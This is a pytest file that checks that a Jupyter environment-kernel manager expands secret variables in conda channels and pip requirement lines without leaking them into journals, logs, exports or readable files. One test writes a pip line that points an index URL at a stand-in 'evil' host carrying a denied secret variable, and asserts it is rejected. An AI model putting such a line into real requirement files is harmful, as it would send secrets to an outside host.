"""Variables in specs: a job expands them for the server that is meant, and writes down what they hold nowhere."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from msgspec import structs

from jupyter_envkernels.engine.export import export
from jupyter_envkernels.engine.operations import JobRequest, PlanOnly, Rollback, Update
from jupyter_envkernels.envs.catalog import Catalog
from jupyter_envkernels.envs.inventory import read_inventory
from jupyter_envkernels.errors import NotAllowed
from jupyter_envkernels.jobs.manager import JobManager
from jupyter_envkernels.models import CatalogOptions, Edit, EnvSpec, Job, Limits, LockedPackage
from tests.channel.server import Auth, ChannelServer

from .conftest import Place, managing, over

TOKEN = "tk-0123456789"
SECRET = "s3cret path+%41"
IN_URLS = "s3cret%20path+%41"
WHEEL = "envkernels_demo_pip-1.0-py3-none-any.whl"


class Hidden(ChannelServer):
    """Serve channels below a secret path."""

    alias = f"/{IN_URLS}/"

    def file(self, path: str) -> Path | None:
        return super().file(path.replace(self.alias, "/"))


@pytest.fixture
def hidden(channel_root: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hidden]:
    monkeypatch.setenv("LAB_PATH", SECRET)
    server = Hidden(channel_root)
    with server:
        monkeypatch.setenv("LAB_URL", f"{server.url}/{SECRET}")
        yield server


def leaks(folder: Path, *secrets: str) -> list[str]:
    """Files that hold a secret, unless a folder above them, but below this one, is for its owner alone."""
    return [
        str(path.relative_to(folder))
        for path in folder.rglob("*")
        if path.is_file() and not path.is_symlink()
        if any(secret.encode() in path.read_bytes() or secret in path.name for secret in secrets)
        if all(parent.stat().st_mode & 0o077 for parent in path.parents if folder in parent.parents)
    ]


async def succeed(manager: JobManager, request: JobRequest) -> Job:
    job = await over(manager, await manager.submit(request))
    assert job.state == "succeeded", (job.message, manager.journal(job.id).log_file.read_text())
    return job


def in_journals(place: Place, *secrets: str) -> list[str]:
    """Return the files of journals that contain a secret."""
    files = [path for path in (place.folder / "jobs").rglob("*") if path.is_file()]
    return [path.name for path in files if any(secret.encode() in path.read_bytes() for secret in secrets)]


async def test_a_token_in_a_channel(
    place: Place, channel_server: ChannelServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CONDA_TOKEN", TOKEN)
    channel_server.auth = Auth(token=TOKEN)
    spec = EnvSpec("lesson", (f"{channel_server.url}/t/${{CONDA_TOKEN}}/main",), ("prio-demo",))
    request = structs.replace(place.create("lesson"), spec=spec)
    async with managing(place) as manager:
        planned = await succeed(manager, PlanOnly(request))
        plan = manager.journal(planned.id).plan()
        done = await over(manager, await manager.run(planned.id))
        assert done.state == "succeeded", done.message
        log = manager.journal(done.id).log_file.read_text()
    (warning,) = plan.warnings
    assert (warning.code, warning.message) == ("variables-used", "Variables of the server are used: CONDA_TOKEN.")
    assert "Variables of the server are used: CONDA_TOKEN." in log
    assert in_journals(place, TOKEN) == []
    assert leaks(place.folder, TOKEN) == []


@pytest.mark.parametrize("channel", ["{url}/${{LAB_PATH}}/main", "{url}/$LAB_PATH/main", "$LAB_URL/main"])
async def test_a_secret_anywhere_in_a_channel(place: Place, hidden: Hidden, channel: str) -> None:
    """Create, plan, update by a spec: the packages stay the same ones; the cache is an older one, which others read."""
    (place.folder / "cache" / "repodata").mkdir(parents=True)
    spec = EnvSpec("lesson", (channel.format(url=hidden.url),), ("prio-demo", "conflict-base=1"))
    request = structs.replace(place.create("lesson"), spec=spec)
    async with managing(place) as manager:
        planned = await succeed(manager, PlanOnly(request))
        job = await over(manager, await manager.run(planned.id))
        assert job.state == "succeeded", (job.message, manager.journal(job.id).log_file.read_text())
        changed = Update("lesson", request.prefix, spec=replace(spec, dependencies=("conflict-base=2",)))
        update = await succeed(manager, PlanOnly(changed))
        changes = [change.name for change in manager.journal(update.id).plan().changes]
        job = await over(manager, await manager.run(update.id))
        assert job.state == "succeeded", (job.message, manager.journal(job.id).log_file.read_text())
    assert changes == ["conflict-base"]
    assert {(package.name, package.version) for package in read_inventory(request.prefix).packages} == {
        ("prio-demo", "1.0"),
        ("conflict-base", "2.0"),
    }
    name = "LAB_URL" if "LAB_URL" in channel else "LAB_PATH"
    assert all(f"${{{name}}}" in package.channel for package in read_inventory(request.prefix).packages)
    assert any(IN_URLS in request.path for request in hidden.log)
    assert in_journals(place, SECRET, IN_URLS) == []
    assert leaks(place.folder, SECRET, IN_URLS) == []
    environment = Catalog(CatalogOptions(roots=(place.envs,))).find("lesson")
    for form in ("yaml", "yaml-from-history", "explicit", "pixi-lock"):
        text = export(environment, form).text
        assert name in text or form == "yaml-from-history"
        assert SECRET not in text
        assert IN_URLS not in text


async def failed(manager: JobManager, request: JobRequest) -> str:
    job = await over(manager, await manager.submit(request))
    assert job.state == "failed", manager.journal(job.id).log_file.read_text()
    return f"{job.message} {manager.journal(job.id).log_file.read_text()}"


async def test_what_an_environment_records_is_not_expanded(place: Place, hidden: Hidden) -> None:
    """Others may have made it, as the source of a clone; what is installed still is found in a history."""
    channel = f"{hidden.url}/${{LAB_PATH}}/main"
    request = structs.replace(
        place.create("lesson"), spec=EnvSpec("lesson", (channel,), ("prio-demo", "conflict-base=1"))
    )
    lesson = Update("lesson", request.prefix)
    async with managing(place) as manager:
        await succeed(manager, request)
        added = await failed(manager, structs.replace(lesson, edit=Edit(add=("same-build",))))
        await succeed(
            manager, structs.replace(lesson, spec=EnvSpec(None, (channel,), (f"{channel}::conflict-base=2",)))
        )
        line = await failed(manager, structs.replace(lesson, spec=EnvSpec(None, (place.channel,), ("same-build",))))
        hidden.log.clear()
        rolled_back = await failed(manager, Rollback("lesson", request.prefix, revision=0))
        assert hidden.log == []
        await succeed(manager, structs.replace(lesson, spec=EnvSpec(None, (channel,), ("conflict-base=1",))))
    for told in (added, line, rolled_back):
        assert "variables are expanded in specs only." in told
    assert leaks(place.folder, SECRET, IN_URLS) == []


async def test_packages_by_their_urls(place: Place, hidden: Hidden) -> None:
    url = f"{hidden.url}/${{LAB_PATH}}/main/noarch/prio-demo-1.0-0.conda"
    locked = structs.replace(place.create("locked"), spec=EnvSpec(None, locked=(LockedPackage(url),)))
    async with managing(place) as manager:
        planned = await succeed(manager, PlanOnly(locked))
        job = await over(manager, await manager.run(planned.id))
        assert job.state == "succeeded", manager.journal(job.id).log_file.read_text()
        await succeed(manager, place.create("lines", url))
    for name in ("locked", "lines"):
        (package,) = read_inventory(place.envs / name).packages
        assert package.url == url
    assert in_journals(place, SECRET, IN_URLS) == []
    assert leaks(place.folder, SECRET, IN_URLS) == []


async def test_failures_name_the_variable(place: Place, hidden: Hidden, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CONDA_REMOTE_MAX_RETRIES", "0")
    hidden.add_rule("/main/", status=503)
    channel = f"{hidden.url}/${{LAB_PATH}}"
    async with managing(place) as manager:
        told = await failed(
            manager, structs.replace(place.create("a"), spec=EnvSpec(None, (f"{channel}/main",), ("prio-demo",)))
        )
        assert f"The channel {channel}/main cannot be read: its server answers 503" in told
        told = await failed(
            manager, structs.replace(place.create("b"), spec=EnvSpec(None, (f"{channel}/absent",), ("prio-demo",)))
        )
        assert f"The channel {channel}/absent cannot be read" in told
        hidden.reset()
        hidden.add_rule("[.]conda$", status=404)
        told = await failed(
            manager,
            structs.replace(place.create("c"), spec=EnvSpec(None, (f"{channel}/extra",), ("only-extra-nodep",))),
        )
        assert f"{channel}/extra/noarch/only-extra-nodep" in told
    assert in_journals(place, SECRET, IN_URLS) == []


async def test_variables_that_are_not_set(place: Place, channel_server: ChannelServer) -> None:
    spec = EnvSpec(None, (f"{channel_server.url}/${{LAB_NOWHERE}}/main",), ("prio-demo",))
    async with managing(place) as manager:
        told = await failed(manager, structs.replace(place.create("lesson"), spec=spec))
    assert f"The channel {channel_server.url}/${{LAB_NOWHERE}}/main cannot be read" in told
    assert "These variables are not set, and stay as written: LAB_NOWHERE." in told


async def test_lines_of_pip(place: Place, hidden: Hidden, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also in the files that they name, which are read anew for each job."""
    monkeypatch.setenv("LAB_PIP", "s3cret-path")
    index = f"{hidden.url}/${{LAB_PIP}}"
    hidden.alias = "/s3cret-path/"
    (place.folder / "reqs").mkdir()
    (place.folder / "cache" / "pip").mkdir(parents=True)
    (place.folder / "reqs" / "first.txt").write_text("-c limits.txt\n-r second.txt\n")
    (place.folder / "reqs" / "limits.txt").write_text("envkernels-demo-pip<2\n")
    (place.folder / "reqs" / "second.txt").write_text(f"envkernels-demo-pip @ {index}/wheels/{WHEEL}\n")
    request = place.create("lesson", "python", "pip", pip=("-r reqs/first.txt",))
    options = place.options()
    engine = replace(options.engine, limits=Limits(denied_variables=("LAB_SECRET",)))
    manager = JobManager(replace(options, engine=engine))
    await manager.start()
    try:
        planned = await succeed(manager, PlanOnly(request))
        (warning,) = (one for one in manager.journal(planned.id).plan().warnings if one.code.startswith("variables"))
        done = await over(manager, await manager.run(planned.id))
        assert done.state == "succeeded", manager.journal(done.id).log_file.read_text()
        (package,) = (one for one in read_inventory(request.prefix).packages if one.name == "envkernels-demo-pip")
        (place.folder / "reqs" / "second.txt").write_text(f"absent @ {index}/wheels/absent-1.0-py3-none-any.whl\n")
        assert f"{index}/wheels/absent" in await failed(
            manager, Update("lesson", request.prefix, spec=request.spec, workdir=request.workdir)
        )
        (place.folder / "reqs" / "limits.txt").write_text("--index-url http://evil/${LAB_SECRET}\n")
        for again in (manager.submit(structs.replace(request, prefix=place.envs / "third")), manager.run(planned.id)):
            with pytest.raises(NotAllowed, match="LAB_SECRET"):
                await again
    finally:
        await manager.stop()
    assert warning.message == "Variables of the server are used: LAB_PIP."
    assert package.requirement.startswith(f"envkernels-demo-pip @ {index}/wheels/{WHEEL}")
    assert in_journals(place, "s3cret-path") == []
    assert leaks(place.folder, "s3cret-path") == []
